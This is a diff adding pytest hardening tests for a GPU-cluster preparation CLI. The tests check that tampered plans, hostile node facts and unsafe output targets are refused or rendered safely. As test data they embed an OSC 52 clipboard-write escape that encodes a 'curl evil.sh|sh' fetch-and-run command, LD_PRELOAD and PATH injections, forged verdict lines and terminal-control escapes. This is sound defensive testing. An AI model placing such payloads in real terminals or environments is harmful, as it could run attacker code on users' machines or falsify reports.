@@ -1,0 +1,148 @@
+"""A compromised node, a hostile inventory, a careless operator (issue classes of the hardening round): each case
+states the exit code, the one-line message, and what must not happen (nothing run, nothing written, nothing
+leaked, nothing lost, no forged line)."""
+import json
+import os
+import re
+import stat
+
+import pytest
+
+from conftest import corpus, run_cli
+
+H100 = "h100-sxm-x8.nvidia-smi-q.txt"
+ASUS = ["asus-esc8000a-e12-4x-rtx6000ada.topo-m.txt", "asus-esc8000a-e12-4x-rtx6000ada.lscpu.txt"]
+# what a compromised node writes into its own facts: an OSC 52 clipboard write, a screen clear, a forged verdict
+# line, a bidi override, a lone surrogate (valid as a JSON escape, invalid Unicode) and a C0 control
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
+FORGED = "\nOK: 0 of 4 host(s) failed\n"
+
+
+def _one_error_line(done, code, pattern):
+    lines = [line for line in done.stderr.splitlines() if line.strip()]
+    assert done.returncode == code, done.stderr + done.stdout[-500:]
+    assert "Traceback" not in done.stderr and "internal error" not in done.stderr
+    assert len(lines) == 1 and re.search(pattern, lines[0]), done.stderr
+
+
+# ---------------------------------------------------------------------------- 1. code run from data
+def test_an_environment_name_ending_in_a_newline_is_refused():
+    done = run_cli("nccl-env", "--set", "X\n=1")
+    _one_error_line(done, 2, r"not a valid environment variable name")
+    assert done.stdout == ""
+
+
+def _plan(tmp_path, change):
+    path = tmp_path / "plan.json"
+    assert run_cli("plan", *[a for n in ASUS for a in ("--from", corpus(n))], "--json", "-o", str(path)).returncode == 0
+    document = json.loads(path.read_text())
+    change(document)
+    path.write_text(json.dumps(document))
+    return path
+
+
+@pytest.mark.parametrize("change, message", [
+    (lambda d: d["ranks"][0]["env"].update(LD_PRELOAD="/tmp/evil.so"), r"ranks\[0\]\.env\.LD_PRELOAD: a plan sets only"),
+    (lambda d: d["ranks"][1]["env"].update(PATH="/tmp/evil"), r"ranks\[1\]\.env\.PATH: a plan sets only"),
+    (lambda d: d["ranks"][0]["env"].update(OMP_NUM_THREADS="4\n"), r"ranks\[0\]\.env: OMP_NUM_THREADS"),
+    (lambda d: d["ranks"][0].update(cpus="hot"), r"ranks\[0\]\.cpus: expected a list, got str"),
+    (lambda d: d["ranks"][0].update(cpus=[0, "1"]), r"ranks\[0\]\.cpus\[1\]: expected a CPU number"),
+    (lambda d: d["ranks"][0].update(local_rank=None), r"ranks\[0\]\.local_rank: expected a whole number"),
+    (lambda d: d.update(ranks={"0": {}}), r"ranks: expected a list, got dict"),
+    (lambda d: d.update(schema="gpuprep.plan/2"), r"schema 'gpuprep.plan/2' is not 'gpuprep.plan/1'"),
+])
+def test_a_tampered_plan_runs_nothing(tmp_path, change, message):
+    """A plan on a shared file system is data: `launch` refuses it, naming the file and the JSON path, and the
+    command never starts."""
+    witness = tmp_path / "ran"
+    done = run_cli("launch", "--plan", str(_plan(tmp_path, change)), "--", "touch", str(witness),
+                   env={"LOCAL_RANK": "0"})
+    _one_error_line(done, 2, str(tmp_path / "plan.json").replace(".", r"\.") + ": " + message)
+    assert not witness.exists()
+
+
+def test_a_deeply_nested_plan_is_bad_input(tmp_path):
+    path = tmp_path / "deep.json"
+    path.write_text("[" * 100000 + "]" * 100000)
+    done = run_cli("launch", "--plan", str(path), "--", "true", env={"LOCAL_RANK": "0"})
+    _one_error_line(done, 2, r"not JSON")
+
+
+# ---------------------------------------------------------------------------- 3. reports forged or broken
+def _hostile_snapshot(tmp_path):
+    document = json.loads(run_cli("snapshot", "--from", corpus(H100)).stdout)
+    document["system"]["hostname"] = "gpu-07" + OSC52 + "\x1b[2J" + FORGED
+    document["system"]["kernel_cmdline"] = "quiet \x01\x02 iommu=pt \u202eevil"
+    document["gpus"][0]["name"] = "NVIDIA H100 80GB HBM3 \ud800"
+    document["software"]["driver_version"] = "565.57.01\x1b[1A"
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(document))              # ensure_ascii: the surrogate travels as \ud800
+    return path
+
+
+def test_node_strings_cannot_write_the_terminal_or_forge_a_line(tmp_path):
+    done = run_cli("check", "--from", str(_hostile_snapshot(tmp_path)), "-v")
+    assert done.returncode in (0, 1) and "Traceback" not in done.stderr, done.stderr
+    assert "\x1b" not in done.stdout and "\x07" not in done.stdout and "\u202e" not in done.stdout
+    assert not any(line.startswith("OK: 0 of 4") for line in done.stdout.splitlines())
+    assert "\\x1b]52;c;" in done.stdout and "\\nOK: 0 of 4 host(s) failed\\n" in done.stdout     # shown, escaped
+    facts = run_cli("check", "--from", str(_hostile_snapshot(tmp_path)), "--facts-only")
+    assert facts.returncode == 0 and "\x1b" not in facts.stdout and "\\x1b[2J" in facts.stdout
+
+
+@pytest.mark.parametrize("fmt", ["junit", "html", "prometheus", "json"])
+def test_every_format_renders_a_hostile_snapshot(tmp_path, fmt):
+    out = tmp_path / f"report.{fmt}"
+    done = run_cli("check", "--from", str(_hostile_snapshot(tmp_path)), "--format", fmt, "-o", str(out))
+    assert done.returncode in (0, 1) and "Traceback" not in done.stderr and "internal error" not in done.stderr, done.stderr
+    text = out.read_text(encoding="utf-8")
+    if fmt == "junit":
+        import xml.etree.ElementTree as ET
+        ET.fromstring(text.encode())                   # XML 1.0: no C0 control characters, no surrogates
+        assert "\x1b" not in text and "\x07" not in text and "\\x1b]52;c;" in text
+    if fmt == "prometheus":
+        from prometheus_client.parser import text_string_to_metric_families
+        assert list(text_string_to_metric_families(text))
+
+
+# ---------------------------------------------------------------------------- 4. files lost or clobbered
+def test_output_over_the_input_is_refused(tmp_path):
+    source = tmp_path / "host.json"
+    source.write_text(run_cli("snapshot", "--from", corpus(H100)).stdout)
+    before = source.read_bytes()
+    done = run_cli("check", "--from", str(source), "--format", "json", "-o", str(source))
+    _one_error_line(done, 2, r"is also an input")
+    assert source.read_bytes() == before
+
+
+def test_reports_honour_the_umask(tmp_path):
+    import subprocess
+    import sys
+    out = tmp_path / "report.json"
+    done = subprocess.run([sys.executable, "-m", "gpuprep", "check", "--from", corpus(H100), "--format", "json",
+                           "-o", str(out)], capture_output=True, text=True, timeout=120, preexec_fn=lambda: os.umask(0o077))
+    assert done.returncode in (0, 1), done.stderr
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
+
+
+def test_a_device_is_written_through_not_replaced(tmp_path):
+    done = run_cli("check", "--from", corpus(H100), "--format", "json", "-o", "/dev/null")
+    assert done.returncode in (0, 1) and "Traceback" not in done.stderr, done.stderr
+    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    import threading
+    got = []
+    reader = threading.Thread(target=lambda: got.append(open(fifo).read()))
+    reader.start()
+    done = run_cli("check", "--from", corpus(H100), "--format", "json", "-o", str(fifo))
+    reader.join(timeout=60)
+    assert done.returncode in (0, 1) and stat.S_ISFIFO(os.stat(fifo).st_mode)
+    assert json.loads(got[0])["schema"].startswith("gpuprep.check/")
+
+
+def test_a_full_disk_is_a_failure_not_exit_0():
+    if not os.path.exists("/dev/full"):
+        pytest.skip("no /dev/full")
+    done = run_cli("check", "--from", corpus(H100), "--format", "json", "-o", "/dev/full")
+    _one_error_line(done, 2, r"/dev/full: cannot write")
